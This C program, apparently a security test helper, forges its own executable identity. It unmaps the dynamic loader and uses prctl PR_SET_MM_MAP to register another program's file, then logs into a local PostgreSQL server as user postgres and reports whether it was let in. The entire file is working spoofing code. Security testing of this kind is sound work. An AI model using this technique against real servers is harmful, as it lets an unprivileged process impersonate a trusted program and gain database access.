/* A process that has another program's file put down as its own: forge PORT TRUSTED.
 *
 * Run by the dynamic loader, its executable is the loader. It unmaps that and asks the kernel to note TRUSTED instead:
 * PR_SET_MM_MAP is for those with CAP_CHECKPOINT_RESTORE in their user namespace, which everybody has in one of his own.
 * Then it connects and says who wants in. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { MOST_RANGES = 16, PATH_BYTES = 512 };

/* StartupMessage of protocol 3.0 for user postgres. */
static const char STARTUP[] = "\0\0\0\x29\0\3\0\0user\0postgres\0database\0postgres\0";

static struct {
    unsigned long begin, end;
} loader[MOST_RANGES];
static int ranges;
static char loader_path[PATH_BYTES];
static struct prctl_mm_map map;
static struct sockaddr_in target = {.sin_family = AF_INET};
static char answer[4096];

static void find_loader(void)
{
    char line[PATH_BYTES + 128];
    FILE *maps = fopen("/proc/self/maps", "r");
    while (fgets(line, sizeof line, maps) && ranges < MOST_RANGES) {
        char *path = strchr(line, '/');
        if (path == NULL || strstr(path, "/ld-") == NULL)
            continue;
        sscanf(line, "%lx-%lx", &loader[ranges].begin, &loader[ranges].end);
        sscanf(path, "%511s", loader_path);
        ranges++;
    }
    fclose(maps);
}

/* What the kernel has on record already: numbers 26 to 28 and 45 to 51 of /proc/self/stat (proc_pid_stat(5)). */
static void describe_memory(const char *trusted)
{
    unsigned long long number[64] = {0};
    char text[2048];
    FILE *stat = fopen("/proc/self/stat", "r");
    text[fread(text, 1, sizeof text - 1, stat)] = 0;
    fclose(stat);
    char *rest = strrchr(text, ')') + 3;
    for (int i = 3; rest != NULL && i < 53; i++) {
        number[i] = strtoull(rest, NULL, 10);
        rest = strchr(rest, ' ');
        rest = rest == NULL ? NULL : rest + 1;
    }
    map = (struct prctl_mm_map){
        .start_code = number[26], .end_code = number[27], .start_stack = number[28],
        .start_data = number[45], .end_data = number[46], .start_brk = number[47], .brk = (uintptr_t)sbrk(0),
        .arg_start = number[48], .arg_end = number[49], .env_start = number[50], .env_end = number[51],
        .exe_fd = open(trusted, O_RDONLY),
    };
}

static void say(const char *line)
{
    size_t length = 0;
    while (line[length])
        length++;
    syscall(SYS_write, STDOUT_FILENO, line, length);
}

/* From here on nothing may need the loader: system calls only. */
static void become(void)
{
    for (int i = 0; i < ranges; i++)
        syscall(SYS_munmap, loader[i].begin, loader[i].end - loader[i].begin);
    int is_noted = syscall(SYS_prctl, PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) == 0;
    say(is_noted ? "noted=yes\n" : "noted=no\n");
    long fd = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
    if (syscall(SYS_connect, fd, &target, sizeof target) == 0) {
        syscall(SYS_write, fd, STARTUP, sizeof STARTUP);
        if (syscall(SYS_read, fd, answer, sizeof answer) > 0)
            say(answer[0] == 'E' ? "refused=28000\n" : "answer=R\n");
    }
    syscall(SYS_exit_group, 0);
}

int main(int argc, char **argv)
{
    char executable[PATH_BYTES];
    if (argc != 3)
        return 2;
    find_loader();
    executable[readlink("/proc/self/exe", executable, sizeof executable - 1)] = 0;
    if (strcmp(executable, loader_path)) {
        execl(loader_path, loader_path, argv[0], argv[1], argv[2], NULL);
        return 1;
    }
    target.sin_port = htons(atoi(argv[1]));
    inet_pton(AF_INET, "127.0.0.1", &target.sin_addr);
    describe_memory(argv[2]);
    become();
    return 1;
}
